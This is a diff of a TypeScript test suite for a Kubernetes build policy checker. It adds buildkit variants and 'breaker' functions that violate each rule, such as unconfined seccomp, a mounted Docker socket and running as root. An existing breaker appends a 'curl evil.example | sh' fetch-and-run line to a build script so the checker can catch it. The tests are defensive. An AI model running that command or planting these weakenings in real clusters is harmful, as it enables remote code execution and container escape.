@@ -29,11 +29,68 @@ const BREAKERS: Record<string, (ms: Manifest[]) => void> = {
   IB007: (ms) => { registry(ms).spec.replicas = 2; },
   IB008: (ms) => { builder(ms).containers[0].securityContext.readOnlyRootFilesystem = true; },
   IB009: (ms) => { ms.find((m) => m.kind === 'ConfigMap')!.data['build.sh'] += 'curl evil.example | sh\n'; },
+  IB011: (ms) => { builder(ms).containers[0].securityContext.seccompProfile = { type: 'Unconfined' }; },
+};
+
+/** The same app built by the buildkit engine (builders.engine: buildkit). */
+const BUILDKIT_BUILDS = `
+builders:
+  engine: buildkit
+builds:
+  - repo: https://github.com/jpetazzo/container.training.git
+    images:
+      - context: dockercoins/worker
+`;
+const synthBuildkit = () => synthBuilds(BUILDKIT_BUILDS);
+
+/** Breakers of the rules that only buildkit builders can break, applied to the buildkit app. */
+const BUILDKIT_BREAKERS: Record<string, (ms: Manifest[]) => void> = {
+  // The Docker socket, exactly as the docker engine mounts it (so IB006 stays quiet).
+  IB010: (ms) => { builder(ms).volumes.push({ name: 'docker-socket', hostPath: { path: '/var/run/docker.sock', type: 'Socket' } }); },
+  IB012: (ms) => { builder(ms).containers[0].securityContext.runAsUser = 0; },
+  IB013: (ms) => { env(ms, 'REGISTRY_HOST').value = 'localhost:30500'; },
+};
+
+/**
+ * Rules about every builder, whatever its engine: their breakers must work on
+ * the buildkit app too (IB001's own breaker would also miscount its one image).
+ */
+const ENGINE_AGNOSTIC: Record<string, (ms: Manifest[]) => void> = {
+  IB001: (ms) => { env(ms, 'IMAGE_COUNT').value = 1; },
+  IB002: BREAKERS.IB002,
+  IB004: BREAKERS.IB004,
+  IB005: BREAKERS.IB005,
 };
 
 describe('policy', () => {
   test('every rule has a breaker below', () => {
-    expect(Object.keys(BREAKERS).sort()).toEqual(RULES.map((r) => r.id).sort());
+    expect([...Object.keys(BREAKERS), ...Object.keys(BUILDKIT_BREAKERS)].sort()).toEqual(RULES.map((r) => r.id).sort());
+  });
+
+  test('the synthesized buildkit app keeps every rule', () => {
+    expect(checkPolicy(synthBuildkit())).toEqual([]);
+  });
+
+  test.each([...Object.keys(BUILDKIT_BREAKERS), ...Object.keys(ENGINE_AGNOSTIC)])('%s reports when its rule is broken in a buildkit builder', (id) => {
+    const manifests = clone(synthBuildkit());
+    (BUILDKIT_BREAKERS[id] ?? ENGINE_AGNOSTIC[id])(manifests);
+    const violations = checkPolicy(manifests);
+    expect(violations.map((v) => v.rule)).toEqual([id]);
+    expect(violations[0].object).toBe('Job/build-container-training-main');
+  });
+
+  test('IB011: the AppArmor annotation on the docker builder is refused too', () => {
+    const manifests = clone(synthDefault());
+    job(manifests).spec.template.metadata.annotations = { 'container.apparmor.security.beta.kubernetes.io/docker-build': 'unconfined' };
+    const violations = checkPolicy(manifests);
+    expect(violations.map((v) => v.rule)).toEqual(['IB011']);
+    expect(violations[0].path).toBe('spec.template.metadata.annotations.container.apparmor.security.beta.kubernetes.io/docker-build');
+  });
+
+  test('IB010 holds for any hostPath, not only the socket, and IB006 still guards the docker builder', () => {
+    const manifests = clone(synthBuildkit());
+    builder(manifests).volumes.push({ name: 'cache', hostPath: { path: '/var/lib/buildkit', type: 'DirectoryOrCreate' } });
+    expect(checkPolicy(manifests).map((v) => v.rule).sort()).toEqual(['IB006', 'IB010']);
   });
 
   test('the synthesized default app keeps every rule', () => {
